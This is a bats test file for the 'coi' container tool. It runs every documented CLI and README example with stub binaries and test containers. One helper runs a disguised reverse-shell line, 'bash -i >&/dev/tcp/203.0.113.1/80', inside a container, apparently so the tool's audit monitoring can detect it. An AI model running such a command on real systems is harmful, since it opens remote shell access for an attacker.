#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# Every example that the help and the manual pages give is run, as examples.tsv says.

setup_file() {
	load ../lib/common
	coi_setup
	export TMUX_TMPDIR=$T/tmp
	unset TMUX
	mkdir "$T/bin" "$HOME/src"
	make_workspace "$HOME/src/thing"
	echo "read this" >"$HOME/src/thing/README"
	ln -s "$COI" "$T/bin/coi"
	printf '#!/bin/sh\nexec "$@"\n' >"$T/bin/sudo"
	chmod 755 "$T/bin/sudo"
	export PATH=$T/bin:$PATH
}

teardown_file() {
	load ../lib/common
	coi_teardown
}

setup() {
	load ../lib/common
	cd "$T/ws"
	table=$COI_TEST_SRC/tests/cli/examples.tsv
	screens=0
}

teardown() {
	end_screens
	coi kill --all --force >/dev/null 2>&1 || true
}

# The examples that the program has, one a line.
examples() {
	local command
	coi __man --commands | while read -r command; do
		# shellcheck disable=SC2086 # words
		set -- $command
		shift
		coi "$@" --help | awk '/^Examples:/ { on = 1; next } /^[^ ]/ { on = 0 }
			on && /^  [^ ]/ { print substr($0, 3) }'
	done | sort -u
}

# The same from the pages of the commands.
examples_of_pages() {
	local page
	for page in "$COI_TEST_SRC"/docs/coi.1 "$COI_TEST_SRC"/docs/commands/*.1; do
		awk '/^Examples:/ { on = 1; next } /^\.El/ { on = 0 } on && /^\.It Li/' "$page"
	done | sed 's/^\.It Li "//; s/"$//; s/\\-/-/g; s/""/"/g; s/\\e/\\/g; s/\\(dq/"/g' | sort -u
}

rows() { # WORLD
	awk -F '\t' -v world="$1" '!/^#/ && $1 == world' "$table"
}

end_screens() {
	local socket
	for socket in "$T"/tmp/tmux-*/*; do
		[ -S "$socket" ] && tmux -S "$socket" kill-server 2>/dev/null || true
	done
}

# A terminal of ours with a command, and what its screen shows.
on_screen() { # PATTERN COMMAND
	screens=$((screens + 1))
	tmux -L "outer$screens" -f /dev/null new-session -d -x 120 -y 40 \
		"bash -c ${2@Q}; echo \"ended with \$?\"; sleep 100"
	screen_shows() {
		tmux -L "outer$screens" capture-pane -p 2>/dev/null | grep -qE -- "$1"
	}
	within 30 screen_shows "$1" || {
		tmux -L "outer$screens" capture-pane -p | grep .
		return 1
	}
	tmux -L "outer$screens" kill-server
}

until_interrupted() { # PATTERN COMMAND
	local pid status=0
	# A process group of its own, so that the signal reaches what a terminal would.
	rm -f "$T/out"
	setsid bash -c "trap - INT; $2" </dev/null >"$T/out" 2>&1 3>&- 4>&- &
	pid=$!
	while_it_runs "$2" >"$T/inside" 2>&1 || true
	within 30 grep -qE -- "$1" "$T/out" || status=1
	kill -INT "-$pid"
	wait "$pid" || status=$?
	output=$(cat "$T/out")
	return $status
}

# Something happens in the container that the example looks at.
while_it_runs() { # EXAMPLE
	case $1 in
	*network*) timeout 5 "$COI" container exec web -- fetch 172.16.5.5 80 ;;
	*audit*) coi container exec web -- sh -c 'exec -a bash sh -c "bash -i >&/dev/tcp/203.0.113.1/80"' ;;
	*top*) "$COI" container exec web -- sleep 60 3>&- 4>&- & ;;
	esac
}

run_world() { # WORLD
	local world how shows example line bad=0 before=$SECONDS
	while IFS=$'\t' read -r world how shows example; do
		line=${example//coi-1a2b3c4d-1/$(container_name 1)}
		[ "$world" != readme ] || line=${line//NAME/$(container_name 1)}
		status=0
		before_example "$example" >"$T/out" 2>&1 || {
			echo "# what comes before '$example' failed:"
			cat "$T/out"
			bad=1
		}
		case $how in
		no) continue ;;
		screen) on_screen "$shows" "$line" >"$T/out" 2>&1 || status=$? ;;
		int) until_interrupted "$shows" "$line" || status=$? ;;
		*)
			# shellcheck disable=SC2016 # zsh counts from 1
			bash -c 'fpath=("" "$T/zsh"); eval "$1"' - "$line" >"$T/out" 2>&1 </dev/null 3>&- || status=$?
			if [[ $status =~ ^($how)$ ]]; then
				status=0
				[ "$shows" = - ] || grep -qE -- "$shows" "$T/out" || status="$status without '$shows'"
			else
				status="$status, not $how"
			fi
			;;
		esac
		[ "$status" = 0 ] || {
			echo "# $line: $status"
			head -n 20 "$T/out"
			bad=1
		}
	done < <(rows "$1")
	return $bad
}

before_example() { :; }

inside() {
	coi container exec "$(container_name 1)" -- sh -c "$1"
}

# An image with an agent, make and npm of ours.
make_agent() {
	if coi image exists coi-agent; then return; fi
	coi container launch coi-default agent
	coi container exec agent -- sh -c 'cat >/usr/bin/dummy' <<-'END'
		#!/bin/sh
		case " $* " in *" --version "*) echo 1; exit 0 ;; esac
		[ -t 0 ] || { read -r question; echo "because you asked: $question"; exit; }
		echo "dummy is here"
		while read -r line; do echo "did $line"; done
	END
	coi container exec agent -- sh -c 'cat >/usr/bin/make; ln -s make /usr/bin/npm
		chmod 755 /usr/bin/make /usr/bin/dummy' <<-'END'
		#!/bin/sh
		echo "made or tested: $*"
	END
	coi image publish agent coi-agent --delete
}

@test "the table has every example, and no other" {
	awk -F '\t' '!/^#/ && $1 != "readme" { print $4 }' "$table" | sort >"$T/rows"
	[ -z "$(uniq -d "$T/rows")" ]
	examples >"$T/examples"
	[ "$(wc -l <"$T/examples")" -gt 80 ]
	diff "$T/rows" "$T/examples"
	# coi.1 has a text of its own in place of those of "coi --help".
	examples_of_pages >"$T/pages"
	coi --help | sed -n 's/^  \(coi.*\)/\1/p' | sort -u | comm -13 - "$T/pages" >"$T/others"
	comm -13 "$T/examples" "$T/pages"
	[ -z "$(comm -13 "$T/examples" "$T/pages")" ]
	[ "$(wc -l <"$T/others")" -gt 80 ]
}

@test "examples that need no container" {
	before_example() {
		case $1 in
		*fpath*) mkdir -p "$T/zsh" ;;
		*fish*) mkdir -p ~/.config/fish/completions ;;
		"coi profile create default") mv ~/.coi/config.toml "$T/config.toml" ;;
		"coi profile create rust"*) mv "$T/config.toml" ~/.coi/config.toml ;;
		esac
	}
	run_world bare
	[ -s "$T/zsh/_coi" ]
	grep -q coi ~/.config/fish/completions/coi.fish
}

@test "examples with images" {
	before_example() {
		case $1 in
		*"profile rust")
			mkdir -p ~/.coi/profiles/rust
			printf '[container]\nimage = "rust"\n[container.build]\ncommands = ["true"]\n' \
				>~/.coi/profiles/rust/config.toml
			;;
		*debian.tar.zst*) zstd -q "$COI_TEST_IMAGE" -o debian.tar.zst ;;
		*meta.tar.xz*)
			printf 'architecture: x86_64\ncreation_date: 1700000000\nproperties:\n  os: test\n' \
				>metadata.yaml
			tar -cJf meta.tar.xz metadata.yaml
			xz -0 <"$COI_TEST_IMAGE" >rootfs.tar.xz
			;;
		docker*)
			python3 "$COI_TEST_SRC/tests/image/oci.py" good "$T/saved" --docker=new
			tar -C "$T/saved" -cf "$T/saved.tar" .
			printf '#!/bin/sh\n[ "$*" = "save node:22" ] && cat %s\n' "$T/saved.tar" >"$T/bin/docker"
			chmod 755 "$T/bin/docker"
			;;
		*--prefix*) coi image import "$COI_TEST_IMAGE" --alias coi-default-20260101-000000 ;;
		esac
	}
	run_world images
}

@test "examples with a container" {
	before_example() {
		case $1 in
		"coi container launch"*) coi container delete --force box ;;
		"coi container exec box -- ls"*)
			coi container delete --force box
			coi container launch coi-default box
			;;
		"coi container mount"*) mkdir -p /srv/data ;;
		esac
		case $1 in
		*"launch -s fast"*) mkdir -p "$COI_ROOT/pools/fast" ;;
		esac
	}
	mount -t tmpfs none /srv
	run_world box
	umount -l /srv # the container has it
}

@test "examples with containers that are looked at and changed" {
	printf '[container]\ninit = "coi-init"\n[monitoring]\nenabled = true\nauto_kill_on_critical = false\nauto_pause_on_high = false\n' >~/.coi/config.toml
	coi container launch coi-default web
	coi container launch coi-default web-1
	before_example() {
		case $1 in
		"coi file push notes.md"*) echo notes >notes.md ;;
		"coi file push -r tools"*) mkdir tools && echo tool >tools/one ;;
		"coi file pull -r"*) coi container exec web-1 -- sh -c 'mkdir /home/code/out; echo result >/home/code/out/one' ;;
		*q.txt*) echo question >q.txt ;;
		esac
	}
	run_world web
	expect_equal "$(cat results/one)" result
	grep -q localhost hosts
}

@test "examples with sessions" {
	make_agent
	export COI_USE_DUMMY=1
	printf '[container]\nimage = "coi-agent"\ninit = "coi-init"\nalias = "web"\n[tool]\nname = "pi"\n' \
		>~/.coi/config.toml
	before_example() {
		case $1 in
		"coi shell" | "coi shell --debug") coi kill --all --force ;;
		"coi shell --background"*)
			coi kill --all --force
			coi shell --background
			;;
		"coi tmux send"*) coi shutdown "$(container_name 2)" ;;
		"coi snapshot diff") inside 'touch /home/code/made-before' ;;
		*monday*)
			coi snapshot create monday
			inside 'touch /home/code/between'
			coi snapshot create tuesday
			;;
		"coi snapshot restore"*) coi container stop "$(container_name 1)" ;;
		"coi persist coi"*) coi container start "$(container_name 1)" ;;
		esac
	}
	run_world session
}

@test "examples of one command and one question" {
	make_agent
	export COI_USE_DUMMY=1
	printf '[container]\nimage = "coi-agent"\ninit = "coi-init"\n[tool]\nname = "pi"\n' >~/.coi/config.toml
	run_world run
}

@test "the recipes of README, each and in their order" {
	sed -n '/^## Ten recipes/,/^## /s/^\$ \(.*[^ ]\)  *#.*/\1/p' "$COI_TEST_SRC/README.md" >"$T/recipes"
	diff "$T/recipes" <(rows readme | cut -f4)
	[ "$(sed -n '/^## Ten recipes/,/^## /p' "$COI_TEST_SRC/README.md" | grep -oE '# [0-9]+\.' |
		tr -d '# \n')" = 1.2.3.4.5.6.7.8.9.10. ]
	make_agent
	export COI_USE_DUMMY=1
	printf '[container]\nimage = "coi-agent"\ninit = "coi-init"\n[tool]\nname = "pi"\n' >~/.coi/config.toml
	before_example() {
		case $1 in
		*--background*) coi kill --all --force ;;
		esac
	}
	run_world readme
	grep -q localhost hosts
}
